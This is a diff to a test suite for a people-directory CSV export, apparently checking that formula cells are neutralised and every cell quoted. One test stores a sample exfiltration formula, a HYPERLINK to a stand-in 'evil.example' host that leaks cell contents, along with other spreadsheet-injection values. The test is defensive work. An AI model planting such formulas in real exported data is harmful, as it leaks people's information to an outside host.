@@ -89,7 +89,7 @@ describe('/export/people.csv', () => {
       expect(res.headers.get('cache-control')).toBe('no-store');
       const org = dir.runtime.view.org.name.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
       expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${org}-directory-${today()}.csv"`);
-      expect(text.slice(1, text.indexOf('\r\n'))).toBe(COLUMNS.join(','));
+      expect(text.slice(1, text.indexOf('\r\n'))).toBe(COLUMNS.map((c) => `"${c}"`).join(','));
     });
   });
 
@@ -175,17 +175,19 @@ describe('/export/people.csv', () => {
     });
   });
 
-  it('neutralises cells a spreadsheet would run as formulas, and keeps line breaks and quotes inside their cell', async () => {
+  it('neutralises cells a spreadsheet would run as formulas, also after a separator, and quotes every cell', async () => {
     await withEnv(OPEN, async () => {
       const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")';
-      await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: '@SUM(1+1)', profile_data: { [fields.title]: formula, [fields.department]: '-2+3' } });
+      await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: '@SUM(1+1)', profile_data: { [fields.title]: formula, [fields.department]: 'Engineer;-2+3' } });
       try {
         await until(() => dir.runtime.view.people.get(shown.user_id)?.title === formula, 'the profile update');
         const { rows, text } = await csv('?q=SUM');
         expect(rows).toHaveLength(1);
-        expect(rows[0]).toMatchObject({ Name: "'@SUM(1+1)", Title: `'${formula}`, Department: "'-2+3" });
-        // No cell of the file starts with a formula character.
-        for (const row of csvObjects(text.slice(1))) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+        expect(rows[0]).toMatchObject({ Name: "'@SUM(1+1)", Title: `'${formula}`, Department: "Engineer;'-2+3" });
+        // Split on any separator a spreadsheet may use (docs/architecture.md §11), no piece of any cell starts a formula.
+        for (const row of csvObjects(text.slice(1))) for (const cell of Object.values(row)) for (const piece of cell.split(/[,;\t|\r\n]/)) expect(piece).not.toMatch(/^ *[=+\-@]/);
+        // Every cell is quoted: each record is "…","…",…
+        for (const line of text.slice(1).split('\r\n').filter(Boolean)) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/);
       } finally {
         await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: 'Shown Everyone', profile_data: { [fields.title]: null, [fields.department]: null } });
         await until(() => dir.runtime.view.people.get(shown.user_id)?.name === 'Shown Everyone', 'the name back');
